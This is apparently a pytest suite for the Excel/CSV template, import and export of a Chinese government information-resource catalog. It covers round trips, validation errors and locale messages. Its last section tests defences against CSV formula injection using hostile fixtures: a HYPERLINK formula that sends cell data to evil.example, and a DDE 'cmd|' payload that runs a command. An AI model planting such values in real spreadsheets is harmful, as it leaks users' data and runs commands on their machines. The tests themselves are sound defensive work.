"""Excel template, import and export: round trips, and every error of a bad file at once."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from gongshu.catalog.transfer.xlsx import (
    ENTRIES_SHEET,
    ENTRY_COLUMNS,
    GUIDE_SHEET,
    ITEM_COLUMNS,
    ITEMS_SHEET,
    LISTS_SHEET,
    build_template,
    export_csv,
    export_xlsx,
    parse_csv,
    parse_workbook,
)
from gongshu.core.errors import ValidationFailed


def _headers(sheet: Any) -> list[str]:
    return [c.value for c in sheet[1]]


def _column(sheet: Any, header: str) -> int:
    """1-based index of a column by its header (with or without the * mark)."""
    names = [str(h).rstrip("*") for h in _headers(sheet)]
    return names.index(header) + 1


def test_template_has_the_four_sheets_and_dropdowns() -> None:
    book = load_workbook(io.BytesIO(build_template()))
    assert book.sheetnames == [ENTRIES_SHEET, ITEMS_SHEET, GUIDE_SHEET, LISTS_SHEET]
    entries = book[ENTRIES_SHEET]
    assert _headers(entries) == [c.header + ("*" if c.required else "") for c in ENTRY_COLUMNS]
    assert _headers(book[ITEMS_SHEET])[0] == "资源序号*"
    formulas = {dv.formula1 for dv in entries.data_validations.dataValidation}
    assert any(f.startswith(f"'{LISTS_SHEET}'!$C$") for f in formulas)
    assert len(entries.data_validations.dataValidation) == sum(
        1 for c in ENTRY_COLUMNS if c.list_name or c.kind == "subject"
    )
    lists = [row for row in book[LISTS_SHEET].iter_rows(min_row=2, values_only=True)]
    assert ("共享类型", "conditional", "有条件共享") in [r[:3] for r in lists]
    assert all(r[5] and r[6] in ("V", "GK") for r in lists)  # every value cites its source
    guide_text = " ".join(
        str(v) for row in book[GUIDE_SHEET].iter_rows(values_only=True) for v in row if v
    )
    assert "第十二条" in guide_text and "资源序号" in guide_text


def test_empty_template_imports_as_empty() -> None:
    result = parse_workbook(build_template())
    assert not result.ok and [e.code for e in result.errors] == ["empty_file"]


def test_xlsx_round_trip(sample_entries: list[Any]) -> None:
    result = parse_workbook(export_xlsx(sample_entries))
    assert result.ok, [str(e) for e in result.errors]
    assert [i.entry for i in result.entries] == sample_entries
    assert [i.row for i in result.entries] == [2, 3, 4]
    assert [i.key for i in result.entries] == ["1", "2", "3"]


def test_xlsx_round_trip_keeps_resource_codes(public_entries: list[Any]) -> None:
    result = parse_workbook(export_xlsx(public_entries))
    assert result.ok, [str(e) for e in result.errors]
    assert [i.resource_code for i in result.entries] == [e.resource_code for e in public_entries]
    for imported, public in zip(result.entries, public_entries, strict=True):
        assert imported.entry.name == public.name
        assert [i.code for i in imported.entry.items] == [i.code for i in public.items]


def test_csv_round_trip(public_entries: list[Any]) -> None:
    data = export_csv(public_entries)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == [c.header for c in ENTRY_COLUMNS + ITEM_COLUMNS[1:]]
    assert len(rows) == 1 + sum(max(1, len(e.items)) for e in public_entries)
    result = parse_csv(data)
    assert result.ok, [str(e) for e in result.errors]
    assert [i.resource_code for i in result.entries] == [e.resource_code for e in public_entries]
    for imported, public in zip(result.entries, public_entries, strict=True):
        assert imported.entry.model_dump() == public.model_dump(
            include=set(imported.entry.model_dump()), exclude={"items"}
        ) | {"items": imported.entry.model_dump()["items"]}
        assert [i.model_dump() for i in imported.entry.items] == [
            i.model_dump(exclude={"id"}) for i in public.items
        ]


def test_csv_saved_by_excel_in_gb18030_imports(sample_entries: list[Any]) -> None:
    text = export_csv(sample_entries).decode("utf-8-sig")
    result = parse_csv(text.encode("gb18030"))
    assert result.ok and len(result.entries) == 3


def test_csv_entry_columns_must_agree(sample_entries: list[Any]) -> None:
    rows = list(csv.reader(io.StringIO(export_csv(sample_entries).decode("utf-8-sig"))))
    rows[2][_column_index(rows[0], "信息资源名称")] = "另一个名称"  # second item row of entry 1
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    result = parse_csv(out.getvalue().encode())
    assert [(e.row, e.column, e.code) for e in result.errors] == [
        (3, "信息资源名称", "entry_rows_differ")
    ]


def _column_index(header: list[str], name: str) -> int:
    return header.index(name)


def _fill(book: Workbook, sheet: str, row: int, header: str, value: Any) -> None:
    # (cell(value=None) would leave the cell as it is)
    book[sheet].cell(row=row, column=_column(book[sheet], header)).value = value


def test_a_workbook_with_many_errors_reports_every_one(sample_entries: list[Any]) -> None:
    book = load_workbook(io.BytesIO(export_xlsx(sample_entries)))
    # entry row 2 (序号 1): a cell error and an Art. 12 rule broken by other cells
    _fill(book, ENTRIES_SHEET, 2, "更新周期", "每小时")
    _fill(book, ENTRIES_SHEET, 2, "共享类型", "有条件共享")  # no reason, no basis
    _fill(book, ENTRIES_SHEET, 2, "共享条件或不予共享理由", None)
    # entry row 3 (序号 2): Excel ate the leading zeros of 目 (fine), a bad date, a bad 项
    _fill(book, ENTRIES_SHEET, 3, "目", 3)
    _fill(book, ENTRIES_SHEET, 3, "发布日期", "2024-13-01")
    _fill(book, ENTRIES_SHEET, 3, "项", "人口")  # a 项 of another kind
    # entry row 4 (序号 3): not shared but opened; a copy of it on row 5 repeats its 序号
    _fill(book, ENTRIES_SHEET, 4, "开放类型", "无条件开放")
    book[ENTRIES_SHEET].append([c.value for c in book[ENTRIES_SHEET][4]])
    # items: a bad length, a duplicate code, an unknown entry, a missing name
    items = book[ITEMS_SHEET]
    _fill(book, ITEMS_SHEET, 2, "数据长度", "十八")
    _fill(book, ITEMS_SHEET, 3, "信息项编码", "gmsfhm")  # same entry as row 2
    items.append([9, "无主信息项", "WZ", "字符型", 10])
    _fill(book, ITEMS_SHEET, 4, "信息项名称", None)
    out = io.BytesIO()
    book.save(out)

    result = parse_workbook(out.getvalue())
    assert result.entries == ()
    found = {(e.sheet, e.row, e.column, e.code) for e in result.errors}
    assert found == {
        (ENTRIES_SHEET, 2, "更新周期", "not_in_list"),
        (ENTRIES_SHEET, 2, "共享条件或不予共享理由", "sharing_reason_required"),
        (ENTRIES_SHEET, 2, "共享依据", "legal_basis_required"),
        (ENTRIES_SHEET, 3, "发布日期", "invalid_date"),
        (ENTRIES_SHEET, 3, "项", "subject_not_in_kind"),
        (ENTRIES_SHEET, 4, "开放类型", "not_shared_opened"),
        (ENTRIES_SHEET, 5, "序号", "duplicate_key"),
        (ITEMS_SHEET, 2, "数据长度", "not_integer"),
        (ITEMS_SHEET, 3, "信息项编码", "duplicate_item_code"),
        (ITEMS_SHEET, 4, "信息项名称", "required"),
        (ITEMS_SHEET, 9, "资源序号", "unknown_entry"),
    }
    assert len(result.errors) == len(found)
    messages = {e.column: e.message for e in result.errors}
    assert messages["共享条件或不予共享理由"].startswith("第十二条")
    assert "每小时" in messages["更新周期"]
    assert "信息资源 第2行 [更新周期]" in str(result.errors[0])
    with pytest.raises(ValidationFailed) as info:
        result.raise_for_errors()
    assert {e.row for e in info.value.errors} == {2, 3, 4, 5, 9}


def test_english_messages(sample_entries: list[Any]) -> None:
    book = load_workbook(io.BytesIO(export_xlsx(sample_entries)))
    _fill(book, ENTRIES_SHEET, 2, "更新周期", "hourly")
    out = io.BytesIO()
    book.save(out)
    (error,) = parse_workbook(out.getvalue(), locale="en").errors
    assert error.message == "'hourly' is not a value of the list 更新周期."


def test_codes_and_english_labels_are_accepted(sample_entries: list[Any]) -> None:
    book = load_workbook(io.BytesIO(export_xlsx(sample_entries)))
    _fill(book, ENTRIES_SHEET, 2, "更新周期", "Daily")
    _fill(book, ENTRIES_SHEET, 2, "共享类型", 1)  # the guide's number, typed as a number
    _fill(book, ENTRIES_SHEET, 2, "项", 1)  # Excel turned 01 into 1
    _fill(book, ENTRIES_SHEET, 2, "发布日期", dt.datetime(2024, 7, 1))
    _fill(book, ITEMS_SHEET, 2, "数据长度", 18.0)
    out = io.BytesIO()
    book.save(out)
    result = parse_workbook(out.getvalue())
    assert result.ok, [str(e) for e in result.errors]
    first = result.entries[0].entry
    assert first.update_cycle == "daily" and first.sharing.type == "unconditional"
    assert first.category.subject == "01" and first.publish_date == dt.date(2024, 7, 1)


def test_items_may_link_by_entry_name(sample_entries: list[Any]) -> None:
    book = load_workbook(io.BytesIO(export_xlsx(sample_entries[:1])))
    _fill(book, ENTRIES_SHEET, 2, "序号", None)
    for row in range(2, 5):
        _fill(book, ITEMS_SHEET, row, "资源序号", sample_entries[0].name)
    out = io.BytesIO()
    book.save(out)
    result = parse_workbook(out.getvalue())
    assert result.ok and result.entries[0].entry == sample_entries[0]


@pytest.mark.parametrize(
    ("data", "code"),
    [(b"not a workbook", "invalid_file"), (b"PK\x03\x04broken", "invalid_file")],
)
def test_unreadable_files(data: bytes, code: str) -> None:
    result = parse_workbook(data)
    assert [e.code for e in result.errors] == [code]


def test_missing_sheet_and_columns() -> None:
    book = Workbook()
    assert book.active is not None
    book.active.title = ENTRIES_SHEET
    book.active.append(["序号", "信息资源名称"])
    out = io.BytesIO()
    book.save(out)
    codes = {(e.sheet, e.code) for e in parse_workbook(out.getvalue()).errors}
    assert (ITEMS_SHEET, "missing_sheet") in codes
    assert (ENTRIES_SHEET, "missing_column") in codes


def test_row_limit(sample_entries: list[Any]) -> None:
    result = parse_workbook(export_xlsx(sample_entries), max_rows=2)
    assert [(e.sheet, e.row, e.code) for e in result.errors] == [
        (ENTRIES_SHEET, 4, "too_many_rows"),
        (ITEMS_SHEET, 4, "too_many_rows"),
    ]


# -- exports cannot carry formulas (OWASP CSV injection; core.exports) -----------------------

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "summary": "-2+3+cmd|' /C calc'!A0",
    "keywords": ["@SUM(A1:A9)", "+人口"],
}


def _hostile(sample_entries: list[Any]) -> list[Any]:
    first = sample_entries[0]
    items = [first.items[0].model_copy(update={"name": "=1+1"}), *first.items[1:]]
    return [first.model_copy(update={**HOSTILE, "items": items}), *sample_entries[1:]]


def test_xlsx_export_neutralises_formulas_and_imports_back(sample_entries: list[Any]) -> None:
    entries = _hostile(sample_entries)
    data = export_xlsx(entries)
    book = load_workbook(io.BytesIO(data))
    for sheet in (book[ENTRIES_SHEET], book[ITEMS_SHEET]):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert not (isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r"), (
                    cell.coordinate, cell.value)
    names = [c.value for c in book[ENTRIES_SHEET][2]]
    assert "'" + HOSTILE["name"] in names and "'" + HOSTILE["summary"] in names
    result = parse_workbook(data)
    assert result.ok, [str(e) for e in result.errors]
    assert [i.entry for i in result.entries] == entries


def test_csv_export_neutralises_formulas_and_imports_back(sample_entries: list[Any]) -> None:
    entries = _hostile(sample_entries)
    data = export_csv(entries)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert all(not f[:1] or f[:1] not in "=+-@\t\r" for row in rows for f in row)
    assert "'" + HOSTILE["name"] in rows[1]
    result = parse_csv(data)
    assert result.ok, [str(e) for e in result.errors]
    assert [i.entry.model_dump() for i in result.entries] == [e.model_dump() for e in entries]
